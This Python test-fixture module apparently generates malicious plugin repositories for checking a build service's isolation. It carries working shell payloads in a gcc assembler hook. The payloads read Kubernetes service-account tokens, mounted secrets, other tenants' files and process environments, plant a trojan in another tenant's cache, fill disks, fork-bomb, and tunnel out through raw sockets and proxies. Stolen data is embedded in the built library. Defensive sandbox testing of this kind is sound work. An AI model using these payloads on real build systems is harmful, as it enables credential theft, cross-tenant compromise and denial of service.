"""Evil plugin repositories, one per attack on the builder (issue 21), for any executor's tests.

Each is a mosquitto-c plugin as ``plugforge new`` writes it, plus a ``.plugforge/recipe.yaml``
overlay adding ``-B evil/`` to gcc's arguments: gcc then runs the repository's ``evil/as`` as
its assembler. That is arbitrary code inside the build, exactly as a Makefile, a
``rebar.config`` hook or a Maven plugin would run it. The hook does its attack, reports each
try in the build log as ``ATTACK <name>: SUCCEEDED ...`` or ``ATTACK <name>: blocked: ...``,
prints what it stole and adds it to the assembly gcc hands it (so it ships in the plugin's
``.so``), then runs the real assembler. ``incbin`` needs no hook: its C source embeds a file with
``.incbin``.

API::

    targets = Targets(secret=..., token_file=..., ...)   # what the test planted on the host
    files = repo_files(attack, targets)                   # path -> (bytes, executable)
    write_repo(dest, attack, targets) -> Path             # a fresh tree to build
    ATTACKS                                               # every attack's name
    READS                                                 # those a test can also run
                                                          # unisolated, as a control

An attack is contained when the secret's bytes appear in neither the artifact nor the log (and
the status), no ``marker`` process outlives the build, and the other tenant's cache is
untouched.
"""

from __future__ import annotations

import shlex
import socket
import threading
from dataclasses import dataclass
from pathlib import Path

from builder.build.recipe import template_dir
from builder.build.scaffold import scaffold

PLUGIN = "evil_plugin"
HOOK = "evil/as"
RECIPE = """apiVersion: plugforge.dev/v1alpha1
kind: Recipe
template: mosquitto-c
extraArgs: {gcc: [-B, evil/]}
"""
K8S_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SECRET_VARIABLE = "PF_BUILDER_SECRET"
CACHE_OWNER = ".owner"
TROJAN = "maven-jar-plugin.jar"


@dataclass(frozen=True)
class Targets:
    """What an attack aims at: files, processes and ports the test planted on the host."""

    secret: str
    """Random; in every planted file and in the builder stand-in's environment."""
    token_file: Path
    """A planted "ServiceAccount token" at its absolute host path."""
    secret_dir: Path
    """The builder's "mounted Secrets" (API tokens, signing key)."""
    other_tenant_files: tuple[Path, ...]
    """Another tenant's workspace and git mirror files."""
    other_cache: Path
    """Another tenant's cache directory (holding ``CACHE_OWNER``): the attack tries to plant
    ``TROJAN`` in it."""
    builder_pid: int
    """A process holding ``PF_BUILDER_SECRET=<secret>`` in its environment."""
    ports: tuple[tuple[str, int], ...]
    """The builder's API (answers every connection with the secret) and the apiserver."""
    marker: str
    """Unique: names the processes a daemon or fork-bomb attack leaves, so a test finds them."""


def _read(name: str, paths: list[str]) -> str:
    lines = []
    for path in paths:
        p = shlex.quote(path)
        lines.append(
            f'if cat {p} >> "$stolen" 2>/dev/null; then echo "ATTACK {name}: SUCCEEDED read '
            f'{path}"; cat {p}; echo; else echo "ATTACK {name}: blocked: cannot read {path}"; fi')
    return "\n".join(lines)


def _body(attack: str, t: Targets) -> str:
    m = shlex.quote(t.marker)
    if attack == "sa_token":
        return _read(attack, [K8S_TOKEN, str(t.token_file)])
    if attack == "builder_secrets":
        return _read(attack, [str(p) for p in sorted(t.secret_dir.iterdir())])
    if attack == "other_tenant":
        return _read(attack, [str(p) for p in t.other_tenant_files])
    if attack == "host_proc":
        return _read(attack, [f"/proc/{t.builder_pid}/environ"]) + f"""
for e in /proc/[0-9]*/environ; do
  if tr '\\0' '\\n' < "$e" 2>/dev/null | grep '^{SECRET_VARIABLE}=' >> "$stolen"; then
    echo "ATTACK {attack}: SUCCEEDED found {SECRET_VARIABLE} in $e"; cat "$stolen"; fi
done
echo "ATTACK {attack}: searched $(ls -d /proc/[0-9]* | wc -l) processes"
"""
    if attack == "cache_write":
        jar = shlex.quote(str(t.other_cache / TROJAN))
        owner = shlex.quote(str(t.other_cache / CACHE_OWNER))
        return f"""
if [ -e {owner} ] && echo trojan > {jar} 2>/dev/null
then echo "ATTACK {attack}: SUCCEEDED wrote {jar}"
else echo "ATTACK {attack}: blocked: no such cache or not writable: {jar}"; fi
"""
    if attack == "daemon":
        return f"""
setsid sh -c 'while :; do sleep 1; done' {m} </dev/null >/dev/null 2>&1 &
echo "ATTACK {attack}: started a daemon named {t.marker}"
"""
    if attack == "disk_fill":
        return f"""
for dir in "$PWD" "${{TMPDIR:-/tmp}}" "$HOME"; do
  cat /dev/zero > "$dir/fill-{t.marker}" 2>/dev/null
  echo "ATTACK {attack}: filled $dir: $(du -sh "$dir/fill-{t.marker}" | cut -f1) written"
done
"""
    if attack == "fork_bomb":
        return f"""
echo "ATTACK {attack}: starting"
sh -c 'b() {{ b | b & }}; b; sleep 3600' {m} &
wait
"""
    if attack == "network":
        lines = []
        for host, port in t.ports:
            lines.append(
                f"if timeout 5 bash -c 'exec 3<>\"/dev/tcp/$0/$1\" && timeout 2 head -c 200 <&3' "
                f"{host} {port} >> \"$stolen\" 2>/dev/null; then echo \"ATTACK {attack}: "
                f"SUCCEEDED connected to {host}:{port}\"; cat \"$stolen\"; echo; else echo "
                f"\"ATTACK {attack}: blocked: cannot connect to {host}:{port}\"; fi")
        return "\n".join(lines)
    raise ValueError(f"unknown attack {attack!r}")


ATTACKS = ("sa_token", "builder_secrets", "other_tenant", "host_proc", "cache_write", "daemon",
           "disk_fill", "fork_bomb", "network", "incbin")
READS = ("sa_token", "builder_secrets", "other_tenant", "host_proc", "cache_write", "network",
         "incbin")


def _hook(attack: str, t: Targets) -> str:
    return f"""#!/bin/sh
# gcc runs this as its assembler (-B evil/): the repository's code, inside the build.
source=""
for a in "$@"; do case "$a" in *.s) source="$a";; esac; done
stolen="${{TMPDIR:-/tmp}}/stolen-$$"; : > "$stolen"
{_body(attack, t)}
# What was stolen goes into the object's read-only data, hence into the plugin.
if [ -s "$stolen" ] && [ -n "$source" ]; then
  printf '\n\t.section .rodata\n\t.incbin "%s"\n' "$stolen" >> "$source"
fi
exec as "$@"
"""


def repo_files(attack: str, t: Targets) -> dict[str, tuple[bytes, bool]]:
    """The files ``attack`` adds to a fresh mosquitto-c plugin: path -> (content, executable)."""
    if attack == "incbin":
        source = (f'__asm__(".section .rodata\\n.incbin \\"{t.token_file}\\"\\n'
                  '.previous");\n')
        return {"src/stolen.h": (source.encode(), False)}
    return {".plugforge/recipe.yaml": (RECIPE.encode(), False),
            HOOK: (_hook(attack, t).encode(), True)}


def write_repo(dest: Path, attack: str, t: Targets) -> Path:
    """A new plugin tree at ``dest`` carrying ``attack``."""
    scaffold(template_dir("mosquitto-c"), "mosquitto-c", "mosquitto", PLUGIN.replace("_", "-"),
             dest)
    for path, (content, executable) in repo_files(attack, t).items():
        target = dest / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
        target.chmod(0o755 if executable else 0o644)
    if attack == "incbin":
        source = dest / "src" / f"{PLUGIN}.c"
        source.write_text('#include "stolen.h"\n' + source.read_text())
    return dest


# --- egress: a build whose recipe declares a dependency cache (so it gets the container
# executor's egress proxy) tries every other way out. Not in ATTACKS: it needs that recipe.
EGRESS = "egress"
EGRESS_REGISTRY = "repo.maven.apache.org"
EGRESS_RECIPE = """apiVersion: plugforge.dev/v1alpha1
kind: Recipe
broker: mosquitto
description: a plugin whose build declares Maven to get network
toolchain: mosquitto-c
tools: [gcc]
caches: [maven]
metadata:
  name: {file: src/plugin_info.h, pattern: '^#define PLUGIN_NAME "([a-z][a-z0-9_]*)"'}
  version: {file: src/plugin_info.h, pattern: '^#define PLUGIN_VERSION "([^"]+)"'}
timeoutSeconds: 120
build:
  - argv: [gcc, -B, evil/, -std=gnu11, -O2, -fPIC, -shared, -o, "{name}.so", "src/{name}.c"]
artifacts:
  - path: "{name}.so"
    to: "."
"""


def _egress_body(t: Targets) -> str:
    """No DNS; a direct connection to each of ``t.ports``; through the proxy a tunnel to each
    of them, to a host and a port the recipe does not need, and plain HTTP; and one tunnel
    the recipe does need (``allowed:``), which shows the proxy was there to ask."""
    a = EGRESS
    lines = [f"""
proxy="${{HTTPS_PROXY#http://}}"; phost="${{proxy%:*}}"; pport="${{proxy##*:}}"
if getent hosts {EGRESS_REGISTRY} >/dev/null 2>&1
then echo "ATTACK {a}: SUCCEEDED resolved {EGRESS_REGISTRY}"
else echo "ATTACK {a}: blocked: no DNS (cannot resolve {EGRESS_REGISTRY})"; fi
ask() {{
  timeout 6 bash -c 'exec 3<>"/dev/tcp/$0/$1" || exit 9
    printf "%s\\r\\nHost: x\\r\\n\\r\\n" "$2" >&3
    IFS= read -r -t 3 status <&3; printf "%s\\n" "$status"; timeout 2 head -c 400 <&3' \\
    "$phost" "$pport" "$1" 2>&1
}}"""]
    for host, port in t.ports:
        lines.append(
            f"if timeout 5 bash -c 'exec 3<>\"/dev/tcp/$0/$1\" && timeout 2 head -c 200 <&3' "
            f"{host} {port} >> \"$stolen\" 2>/dev/null; then echo \"ATTACK {a}: SUCCEEDED "
            f"connected to {host}:{port}\"; else echo \"ATTACK {a}: blocked: cannot connect "
            f"directly to {host}:{port}\"; fi")
    requests = [f"CONNECT {host}:{port} HTTP/1.1" for host, port in t.ports]
    requests += ["CONNECT example.org:443 HTTP/1.1", f"CONNECT {EGRESS_REGISTRY}:22 HTTP/1.1",
                 f"GET http://{EGRESS_REGISTRY}/maven2/ HTTP/1.1"]
    for request in requests:
        r = shlex.quote(request)
        lines.append(f"""answer=$(ask {r})
case "$answer" in
  "HTTP/1.1 200"*) echo "ATTACK {a}: SUCCEEDED {request}"; printf '%s\\n' "$answer" >> "$stolen";;
  *) echo "ATTACK {a}: blocked: {request} -> $(printf '%s' "$answer" | head -1)";;
esac""")
    lines.append(f"""answer=$(ask {shlex.quote(f"CONNECT {EGRESS_REGISTRY}:443 HTTP/1.1")})
echo "ATTACK {a}: allowed: CONNECT {EGRESS_REGISTRY}:443 -> $(printf '%s' "$answer" | head -1)"
""")
    return "\n".join(lines)


def write_egress_repo(dest: Path, t: Targets) -> Path:
    """A new plugin tree whose complete recipe declares the ``maven`` cache and whose gcc hook
    runs the egress attack."""
    scaffold(template_dir("mosquitto-c"), "mosquitto-c", "mosquitto", PLUGIN.replace("_", "-"),
             dest)
    hook = _hook("daemon", t).replace(_body("daemon", t), _egress_body(t))
    for path, content, mode in ((".plugforge/recipe.yaml", EGRESS_RECIPE, 0o644),
                                (HOOK, hook, 0o755)):
        target = dest / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content)
        target.chmod(mode)
    return dest


class LeakyApi:
    """Stands in for the builder's API port: answers every connection with the secret and
    counts who got through. ``host``: where it listens (every address with ``0.0.0.0``)."""

    def __init__(self, secret: str, host: str = "127.0.0.1") -> None:
        self.sock = socket.create_server((host, 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._secret = secret.encode()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(self._secret + b"\n")
